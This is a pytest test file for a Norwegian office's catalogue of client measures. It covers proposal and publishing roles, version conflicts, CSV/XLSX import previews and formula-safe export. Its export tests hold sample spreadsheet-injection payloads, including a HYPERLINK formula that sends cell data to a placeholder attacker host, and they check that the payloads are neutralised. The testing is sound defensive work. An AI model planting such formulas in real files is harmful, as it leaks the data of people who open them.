"""The office catalogue: propose → publish, history, import preview and apply, export."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from planner.catalogue import HEADERS, MAX_FILE_BYTES, Measure, parse_catalogue
from planner.model import Category
from planner.storage import (
    ConflictError,
    ImportRejected,
    InvalidMeasure,
    MeasureStatus,
    NotFound,
    PermissionDenied,
    RowStatus,
    neutralise_cell,
)
from planner.storage.catalogue_store import export_rows
from planner.storage.models import CatalogueChangeRow, MeasureRow


def _measure(measure_id: str = "strikkekafe", **fields) -> Measure:
    base = dict(
        id=measure_id,
        name="Strikkekafé på biblioteket",
        category=Category.SUPPORTING,
        group="Mestring",
        description="Fellesskap og mestring",
        provider="Biblioteket",
        hours_per_week=Decimal("3"),
    )
    base.update(fields)
    return Measure(**base)


def _csv(rows: list[dict[str, str]], delimiter: str = ";") -> bytes:
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(HEADERS), delimiter=delimiter, lineterminator="\r\n")
    writer.writeheader()
    for row in rows:
        writer.writerow({h: row.get(h, "") for h in HEADERS})
    return buffer.getvalue().encode("utf-8")


def _count(store, model, office_id):
    from sqlalchemy import func, select

    with store.transaction() as session:
        return session.scalar(select(func.count()).select_from(model).where(model.office_id == office_id))


# -- propose → review → publish -------------------------------------------------------------------


def test_propose_then_publish_by_fagansvarlig(store, office):
    cat = store.catalogue
    proposed = cat.propose_measure(office.veileder, _measure(), "Vi har gode erfaringer")
    assert proposed.status is MeasureStatus.PROPOSED and proposed.version == 1
    assert proposed.measure.office == office.name

    with pytest.raises(PermissionDenied):
        cat.publish_measure(office.veileder, "strikkekafe")
    # a veileder may still improve the proposal
    edited = cat.edit_measure(office.veileder2, _measure(hours_per_week=Decimal("4.5")), base_version=1)
    assert edited.version == 2 and edited.measure.hours_per_week == Decimal("4.5")

    published = cat.publish_measure(office.fagansvarlig, "strikkekafe", base_version=2, comment="Godkjent")
    assert published.status is MeasureStatus.PUBLISHED and published.version == 3
    with pytest.raises(PermissionDenied):  # published: only the fagansvarlig edits it now
        cat.edit_measure(office.veileder, _measure(name="Nytt navn"), base_version=3)

    retired = cat.retire_measure(office.fagansvarlig, "strikkekafe", "Biblioteket stengt")
    assert retired.status is MeasureStatus.RETIRED

    history = cat.history(office.fagansvarlig, "strikkekafe")
    assert [h.action for h in reversed(history)] == ["propose", "edit", "publish", "retire"]
    assert [h.user_name for h in reversed(history)] == [
        "Vera Veileder",
        "Viggo Veileder",
        "Frida Fagansvarlig",
        "Frida Fagansvarlig",
    ]
    assert history[-1].before is None and history[-1].after["status"] == "proposed"
    assert history[-2].before["timer_per_uke"] == "3" and history[-2].after["timer_per_uke"] == "4.5"
    assert history[0].comment == "Biblioteket stengt"

    audit_actions = [e.action for e in store.audit(office.fagansvarlig) if e.measure_id == "strikkekafe"]
    assert set(audit_actions) == {"catalogue_propose", "catalogue_edit", "catalogue_publish", "catalogue_retire"}


def test_reject_a_proposal_and_role_rules(store, office):
    cat = store.catalogue
    cat.propose_measure(office.veileder, _measure("turgruppe", name="Turgruppe", category=Category.HEALTH))
    with pytest.raises(PermissionDenied):
        cat.add_measure(office.veileder, _measure("direkte"))
    with pytest.raises(PermissionDenied):
        cat.reject_measure(office.veileder, "turgruppe")
    rejected = cat.reject_measure(office.fagansvarlig, "turgruppe", "Finnes allerede hos kommunen")
    assert rejected.status is MeasureStatus.RETIRED
    assert cat.history(office.fagansvarlig, "turgruppe")[0].action == "reject"
    added = cat.add_measure(office.fagansvarlig, _measure("direkte", name="Direkte publisert"))
    assert added.status is MeasureStatus.PUBLISHED


def test_stale_edit_is_a_conflict(store, office):
    cat = store.catalogue
    cat.propose_measure(office.veileder, _measure())
    cat.edit_measure(office.veileder2, _measure(name="Første endring"), base_version=1)
    with pytest.raises(ConflictError):
        cat.edit_measure(office.veileder, _measure(name="Andre endring"), base_version=1)
    assert cat.get_measure(office.veileder, "strikkekafe").measure.name == "Første endring"


def test_a_measure_needs_a_category_and_its_own_id(store, office):
    cat = store.catalogue
    with pytest.raises(InvalidMeasure, match="[Kk]ategori"):
        cat.propose_measure(office.veileder, _measure(category="ikke-en-kategori"))  # type: ignore[arg-type]
    with pytest.raises(InvalidMeasure, match="id"):
        cat.propose_measure(office.veileder, _measure("Ugyldig Id"))
    with pytest.raises(InvalidMeasure, match="nasjonale katalogen"):
        cat.propose_measure(office.veileder, _measure("motivasjon"))
    with pytest.raises(InvalidMeasure, match="37,5"):
        cat.propose_measure(office.veileder, _measure(hours_per_week=Decimal("40")))
    # a Norwegian category label is understood
    ok = cat.propose_measure(office.veileder, _measure(category="Helse"))  # type: ignore[arg-type]
    assert ok.measure.category is Category.HEALTH
    assert _count(store, MeasureRow, office.veileder.office_id) == 1


def test_offices_do_not_see_each_others_measures(store, office, other_office):
    store.catalogue.add_measure(office.fagansvarlig, _measure())
    assert store.catalogue.list_measures(other_office.fagansvarlig) == []
    with pytest.raises(NotFound):
        store.catalogue.get_measure(other_office.fagansvarlig, "strikkekafe")
    with pytest.raises(NotFound):
        store.catalogue.retire_measure(other_office.fagansvarlig, "strikkekafe")
    # the same id may exist in another office
    store.catalogue.add_measure(other_office.fagansvarlig, _measure())


def test_merged_view_marks_local_measures_with_the_office(store, office):
    from planner.catalogue import load_national_catalogue

    national = load_national_catalogue()
    store.catalogue.add_measure(office.fagansvarlig, _measure())
    store.catalogue.propose_measure(office.veileder, _measure("forslag", name="Bare et forslag"))
    merged = store.catalogue.merged_catalogue(office.veileder)
    assert len(merged) == len(national) + 1
    local = merged["strikkekafe"]
    assert local.office == office.name and not local.is_national
    assert merged[national.ids[0]].is_national
    assert "forslag" not in merged
    assert "forslag" in store.catalogue.merged_catalogue(office.veileder, include_proposed=True)
    assert [m.id for m in merged.search(source="kontor")] == ["strikkekafe"]


# -- import ---------------------------------------------------------------------------------------


def _seed_two(store, office):
    store.catalogue.add_measure(office.fagansvarlig, _measure("strikkekafe"))
    store.catalogue.add_measure(office.fagansvarlig, _measure("turgruppe", name="Turgruppe", category=Category.HEALTH))


def test_import_preview_row_by_row_then_apply(store, office):
    _seed_two(store, office)
    rows = [
        {"id": "strikkekafe", "navn": "Strikkekafé på biblioteket", "kategori": "supporting", "gruppe": "Mestring",
         "beskrivelse": "Fellesskap og mestring", "arrangor": "Biblioteket", "timer_per_uke": "3"},
        {"id": "turgruppe", "navn": "Turgruppe", "kategori": "helse", "gruppe": "Mestring",
         "beskrivelse": "Fellesskap og mestring", "arrangor": "Frisklivssentralen", "timer_per_uke": "4,5"},
        {"id": "jobbverksted", "navn": "Jobbverksted", "kategori": "arbeidssøking", "timer_per_uke": "6"},
    ]
    preview = store.catalogue.preview_import(office.fagansvarlig, _csv(rows), "kontor.csv")
    assert preview.ok, preview.summary()
    by_id = {r.measure_id: r for r in preview.rows}
    assert by_id["strikkekafe"].status is RowStatus.UNCHANGED and by_id["strikkekafe"].row == 2
    changed = by_id["turgruppe"]
    assert changed.status is RowStatus.CHANGED and changed.row == 3
    assert {c.column: (c.old, c.new) for c in changed.changes} == {
        "arrangor": ("Biblioteket", "Frisklivssentralen"),
        "timer_per_uke": ("3", "4.5"),
    }
    assert by_id["jobbverksted"].status is RowStatus.ADDED and by_id["jobbverksted"].row == 4
    assert preview.summary().startswith("1 nye, 1 endret, 1 uendret, 0 avvist")
    # nothing is saved by a preview
    assert store.catalogue.get_measure(office.veileder, "turgruppe").measure.provider == "Biblioteket"
    with pytest.raises(NotFound):
        store.catalogue.get_measure(office.veileder, "jobbverksted")

    with pytest.raises(PermissionDenied):
        store.catalogue.apply_import(office.veileder, preview)
    store.catalogue.apply_import(office.fagansvarlig, preview)
    assert store.catalogue.get_measure(office.veileder, "turgruppe").measure.hours_per_week == Decimal("4.5")
    added = store.catalogue.get_measure(office.veileder, "jobbverksted")
    assert added.status is MeasureStatus.PUBLISHED and added.measure.category is Category.JOB_SEEKING
    assert {h.action for h in store.catalogue.history(office.fagansvarlig)} >= {"import"}
    assert any(e.action == "catalogue_import" for e in store.audit(office.fagansvarlig))

    # applying the same (now stale) preview again is refused
    with pytest.raises(ConflictError):
        store.catalogue.apply_import(office.fagansvarlig, preview)


def test_a_file_with_one_bad_row_saves_nothing(store, office):
    _seed_two(store, office)
    rows = [
        {"id": "jobbverksted", "navn": "Jobbverksted", "kategori": "job_seeking"},
        {"id": "turgruppe", "navn": "Turgruppe", "kategori": "health", "arrangor": "Ny arrangør"},
        {"id": "uten-kategori", "navn": "Uten kategori", "kategori": ""},
        {"id": "motivasjon", "navn": "Kopi av nasjonalt", "kategori": "supporting"},
        {"id": "annet-kontor", "navn": "Annet kontor", "kategori": "health", "kontor": "NAV Et annet sted"},
    ]
    before_changes = _count(store, CatalogueChangeRow, office.fagansvarlig.office_id)
    preview = store.catalogue.preview_import(office.fagansvarlig, _csv(rows), "kontor.csv")
    assert not preview.ok
    by_row = {r.row: r for r in preview.rows}
    assert by_row[2].status is RowStatus.ADDED  # the good rows are still classified
    assert by_row[3].status is RowStatus.CHANGED
    assert by_row[4].status is RowStatus.REJECTED and "Kategori mangler" in by_row[4].errors[0]
    assert by_row[4].measure_id == "uten-kategori"
    assert by_row[5].status is RowStatus.REJECTED and "nasjonale katalogen" in by_row[5].errors[0]
    assert by_row[6].status is RowStatus.REJECTED and "NAV Et annet sted" in by_row[6].errors[0]
    assert "Ingenting blir lagret" in preview.summary()

    with pytest.raises(ImportRejected):
        store.catalogue.apply_import(office.fagansvarlig, preview)
    with pytest.raises(NotFound):
        store.catalogue.get_measure(office.fagansvarlig, "jobbverksted")
    assert store.catalogue.get_measure(office.fagansvarlig, "turgruppe").measure.provider == "Biblioteket"
    assert _count(store, CatalogueChangeRow, office.fagansvarlig.office_id) == before_changes


def test_import_of_an_unreadable_or_too_big_file(store, office):
    preview = store.catalogue.preview_import(office.fagansvarlig, b"\x89PNG\r\n\x1a\nxxxx", "bilde.csv")
    assert preview.unreadable and preview.file_errors and not preview.rows
    big = store.catalogue.preview_import(office.fagansvarlig, b"a" * (MAX_FILE_BYTES + 1), "stor.csv")
    assert big.unreadable and "for stor" in big.file_errors[0]
    headers = store.catalogue.preview_import(office.fagansvarlig, b"foo;bar\n1;2\n", "feil.csv")
    assert headers.file_errors and not headers.ok


def test_apply_import_is_all_or_nothing(store, office, monkeypatch):
    """A failure in the middle of apply_import (here: the last row) leaves nothing behind."""
    rows = [{"id": f"tiltak-{i}", "navn": f"Tiltak {i}", "kategori": "supporting"} for i in range(5)]
    preview = store.catalogue.preview_import(office.fagansvarlig, _csv(rows), "kontor.csv")
    assert len(preview.added) == 5
    import planner.storage.catalogue_store as module

    real_fill = module._fill_row
    calls = {"n": 0}

    def failing_fill(row, measure):
        calls["n"] += 1
        if calls["n"] == 5:
            raise RuntimeError("disk full")
        real_fill(row, measure)

    monkeypatch.setattr(module, "_fill_row", failing_fill)
    with pytest.raises(RuntimeError):
        store.catalogue.apply_import(office.fagansvarlig, preview)
    assert store.catalogue.list_measures(office.fagansvarlig) == []
    assert _count(store, CatalogueChangeRow, office.fagansvarlig.office_id) == 0


# -- export ---------------------------------------------------------------------------------------

DANGEROUS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"Klikk")',
    "plus": "+1",
    "minus": "-2+3",
    "at": "@SUM(A1:A9)",
}


def test_neutralise_cell_rule():
    assert neutralise_cell('=HYPERLINK("x")') == "'=HYPERLINK(\"x\")"
    assert neutralise_cell("+1") == "'+1"
    assert neutralise_cell("-2+3") == "'-2+3"
    assert neutralise_cell("@SUM(A1)") == "'@SUM(A1)"
    assert neutralise_cell("\t=1") == "'\t=1"
    assert neutralise_cell("\r=1") == "'\r=1"
    assert neutralise_cell("Vanlig tekst - med bindestrek") == "Vanlig tekst - med bindestrek"
    assert neutralise_cell("") == ""
    # numeric columns keep numbers as numbers, also negative ones
    assert neutralise_cell("-2", numeric=True) == Decimal("-2")
    assert neutralise_cell("7.5", numeric=True) == Decimal("7.5")
    assert neutralise_cell(-2, numeric=True) == -2
    assert neutralise_cell("-2+3", numeric=True) == "'-2+3"  # not a number: text, neutralised


def _dangerous_rows() -> list[dict[str, str]]:
    rows = []
    for key, text in DANGEROUS.items():
        row = {h: "" for h in HEADERS}
        row.update(id=f"farlig-{key}", navn=text, kategori="supporting", beskrivelse=text, timer_per_uke="")
        rows.append(row)
    row = {h: "" for h in HEADERS}
    row.update(id="negativ", navn="Negativt tall", kategori="supporting", timer_per_uke="-2")
    rows.append(row)
    return rows


def test_csv_export_neutralises_formulas_for_norwegian_excel():
    data = export_rows(_dangerous_rows(), "csv")
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads æøå right
    text = data.decode("utf-8-sig")
    assert text.splitlines()[0] == ";".join(HEADERS)  # semicolons: Norwegian Excel's list separator
    records = list(csv.DictReader(io.StringIO(text), delimiter=";"))
    for record, text_value in zip(records, DANGEROUS.values()):
        assert record["navn"] == "'" + text_value
        assert record["beskrivelse"] == "'" + text_value
    assert records[-1]["timer_per_uke"] == "-2"  # a number in a numeric column stays a number


def test_xlsx_export_opens_with_openpyxl_and_has_no_formulas():
    from openpyxl import load_workbook

    data = export_rows(_dangerous_rows(), "xlsx")
    workbook = load_workbook(io.BytesIO(data))  # not data_only: formulas would show as formulas
    sheet = workbook.worksheets[0]
    assert [c.value for c in sheet[1]] == list(HEADERS)
    names = [sheet.cell(row=r, column=2) for r in range(2, 2 + len(DANGEROUS))]
    assert [c.value for c in names] == ["'" + v for v in DANGEROUS.values()]
    assert all(c.data_type == "s" for c in names)
    negative = sheet.cell(row=2 + len(DANGEROUS), column=HEADERS.index("timer_per_uke") + 1)
    assert negative.value == -2 and negative.data_type == "n"
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f"


def test_export_of_the_office_catalogue_round_trips(store, office):
    store.catalogue.add_measure(
        office.fagansvarlig,
        _measure(description=DANGEROUS["hyperlink"], note="-2+3 timer", hours_per_week=Decimal("7.5")),
    )
    store.catalogue.add_measure(office.fagansvarlig, _measure("turgruppe", name="Turgruppe", category=Category.HEALTH))
    store.catalogue.propose_measure(office.veileder, _measure("forslag", name="Forslag"))
    for fmt, name in (("csv", "kontor.csv"), ("xlsx", "kontor.xlsx")):
        data = store.catalogue.export_catalogue(office.fagansvarlig, fmt)
        parsed = parse_catalogue(data, name)
        assert parsed.ok, parsed.errors
        assert {m.id for m in parsed.measures} == {"strikkekafe", "turgruppe"}  # published only
        assert next(m for m in parsed.measures if m.id == "strikkekafe").description.startswith("'=HYPERLINK")
        preview = store.catalogue.preview_import(office.fagansvarlig, data, name)
        assert preview.ok and {r.status for r in preview.rows} == {RowStatus.UNCHANGED}, preview.rows
    csv_text = store.catalogue.export_catalogue(office.fagansvarlig, "csv").decode("utf-8-sig")
    assert ";7,5;" in csv_text  # decimal comma for Norwegian Excel
    assert any(e.action == "catalogue_export" for e in store.audit(office.fagansvarlig))
    everything = store.catalogue.export_catalogue(office.fagansvarlig, "csv", statuses=list(MeasureStatus))
    assert b"forslag" in everything
    merged = parse_catalogue(store.catalogue.export_catalogue(office.fagansvarlig, "csv", merged=True), "alle.csv")
    assert len(merged.measures) > 2
    with pytest.raises(ValueError):
        store.catalogue.export_catalogue(office.fagansvarlig, "pdf")  # type: ignore[arg-type]
